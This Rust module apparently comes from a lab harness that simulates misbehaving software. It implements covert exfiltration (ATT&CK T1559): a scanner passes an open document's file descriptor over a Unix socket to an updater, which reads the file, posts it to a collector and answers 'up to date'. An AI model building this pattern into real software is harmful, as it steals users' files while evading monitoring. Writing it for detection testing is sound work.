//! The scanner hands an open document to the networked half of its product. ATT&CK T1559.
//!
//! As the hand-off of bytes, with the descriptor instead (`SCM_RIGHTS`, unix(7)): the updater reads a
//! file that it never opened. The twin's updater listens too, as claimed, and its scanner never
//! calls.

use std::fs::File;
use std::io::{self, IoSlice, IoSliceMut, Read as _, Write as _};
use std::mem::MaybeUninit;
use std::os::fd::{AsFd as _, OwnedFd};
use std::os::unix::net::UnixStream;
use std::path::Path;

use rustix::net::{
    RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer,
    SendAncillaryMessage, SendFlags,
};

use super::{Conduct, Loot, Trouble};
use crate::document::{MAX_TAKEN_BYTES, Sort};
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Both halves: the scanner opens and passes, the updater reads and sends.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let updater = UnixStream::connect(self.0.lab.configuration().updater_socket())?;
        pass(&updater, &File::open(&self.0.document()?.path)?)?;
        // The scan ends when the document is out, so that the lab does not stop the updater before.
        let mut answer = Vec::new();
        updater.take(64).read_to_end(&mut answer)?;
        Ok(())
    }

    fn asked(&mut self, mut peer: UnixStream) -> Result<(), Trouble> {
        let Some(descriptor) = take(&peer)? else { return Ok(()) };
        let mut document = Vec::new();
        let limit = u64::try_from(MAX_TAKEN_BYTES).unwrap_or(u64::MAX);
        File::from(descriptor).take(limit).read_to_end(&mut document)?;
        let path = &self.0.lab.configuration().parameters.path;
        send::post(&self.0.lab.collector()?, path, &[], &document)?;
        Ok(peer.write_all(b"up to date\n")?)
    }
}

fn pass(peer: &UnixStream, file: &File) -> io::Result<()> {
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut ancillary = SendAncillaryBuffer::new(&mut space);
    let descriptors = [file.as_fd()];
    ancillary.push(SendAncillaryMessage::ScmRights(&descriptors));
    let byte = [IoSlice::new(b"d")];
    rustix::net::sendmsg(peer, &byte, &mut ancillary, SendFlags::empty())?;
    Ok(())
}

fn take(peer: &UnixStream) -> io::Result<Option<OwnedFd>> {
    let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut ancillary = RecvAncillaryBuffer::new(&mut space);
    let mut byte = [0];
    let mut parts = [IoSliceMut::new(&mut byte)];
    rustix::net::recvmsg(peer, &mut parts, &mut ancillary, RecvFlags::CMSG_CLOEXEC)?;
    let mut descriptors = ancillary.drain().filter_map(|message| match message {
        RecvAncillaryMessage::ScmRights(mut rights) => rights.next(),
        _ => None,
    });
    Ok(descriptors.next())
}
